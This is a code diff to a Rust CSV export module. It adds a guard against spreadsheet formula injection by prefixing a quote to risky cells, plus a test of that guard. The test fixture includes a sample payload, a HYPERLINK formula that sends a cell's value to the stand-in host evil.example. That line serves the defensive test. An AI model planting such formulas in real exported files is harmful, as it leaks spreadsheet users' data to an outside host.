@@ -3,6 +3,12 @@
 //! UTF-8 without BOM, RFC 4180 quoting and CRLF line ends. `load` reads these files back as they
 //! are, so the export doubles as a normalised copy of the input. Also `data/vocabulary.csv`:
 //! every code of every vocabulary with its labels, to decode the code columns.
+//!
+//! A coordinator opens these files in a spreadsheet, which runs a cell starting with `=`, `+`,
+//! `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK(…)` in a title would be a
+//! live link): such a cell is written with a leading `'` ([`neutralise`], OWASP's advice for
+//! CSV injection), except a plain number such as `-0.57`. That `'` is the one change from the
+//! input the export makes.
 
 use crate::model::{Charter, DistrictScope};
 use crate::vocabulary::GROUPS;
@@ -219,9 +225,30 @@ fn table(w: &mut dyn Write, headers: &[&str], rows: impl Iterator<Item = Vec<Str
     let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(w);
     writer.write_record(headers).context("failed to write a CSV header")?;
     for row in rows {
-        writer.write_record(&row).context("failed to write a CSV row")?;
+        let row: Vec<_> = row.iter().map(|cell| neutralise(cell)).collect();
+        writer.write_record(row.iter().map(|cell| cell.as_bytes())).context("failed to write a CSV row")?;
     }
     writer.flush().context("failed to finish a CSV table")
+}
+
+/// `cell`, prefixed with `'` when a spreadsheet would run it as a formula: it starts with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return and is not a plain number (`-0.57`, `+32`).
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A sign, digits, at most one decimal point or comma with digits around it: what a
+/// spreadsheet reads as a number, never as a formula.
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (whole, fraction) = unsigned.split_once(['.', ',']).unwrap_or((unsigned, "0"));
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    digits(whole) && digits(fraction)
 }
 
 /// An optional value, empty when absent.
@@ -298,11 +325,47 @@ mod tests {
         let districts = rows(&tables[0].1);
         assert_eq!(districts[1][7], "yes");
         let vocabulary = rows(&tables[5].1);
+        assert!(vocabulary.iter().flatten().all(|cell| !cell.starts_with('=')));
         assert!(vocabulary.contains(&vec![
             "discipline".into(),
             "theatre".into(),
             "Théâtre".into(),
             "Theatre".into()
         ]));
+    }
+
+    // Cells a spreadsheet would run as formulas read back with a leading `'`; numbers, even
+    // negative, and ordinary text stay as they are.
+    #[test]
+    fn formulas_are_neutralised() {
+        let mut charter = fixture::charter();
+        let payload = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez ici\")";
+        let formulas = [payload, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "-0.57x"];
+        for (offer, formula) in charter.offers.iter_mut().zip(formulas.iter().cycle()) {
+            offer.title = (*formula).to_owned();
+            offer.summary = formulas.join(" ");
+        }
+        charter.districts[0].lon = Some(-0.57);
+        charter.districts[0].summary = "+32 4 221 00 00".to_owned();
+        let read = |path: &str| {
+            let mut bytes = Vec::new();
+            write(path, &charter, &mut bytes).expect("table");
+            rows(&bytes)
+        };
+        let offers = read("data/offers.csv");
+        let title = OFFERS.iter().position(|h| *h == "title").expect("column");
+        for (row, formula) in offers[1..].iter().zip(formulas.iter().cycle()) {
+            assert_eq!(row[title], format!("'{formula}"));
+        }
+        for row in &offers[1..] {
+            for cell in row {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
+            }
+        }
+        let districts = read("data/districts.csv");
+        assert_eq!(districts[1][5], "-0.57", "a negative number stays a number");
+        assert_eq!(districts[1][3], "'+32 4 221 00 00", "a phone with spaces is not a number");
+        assert_eq!(neutralise("-12,5"), "-12,5");
+        assert_eq!(neutralise("Théâtre = joie"), "Théâtre = joie");
     }
 }
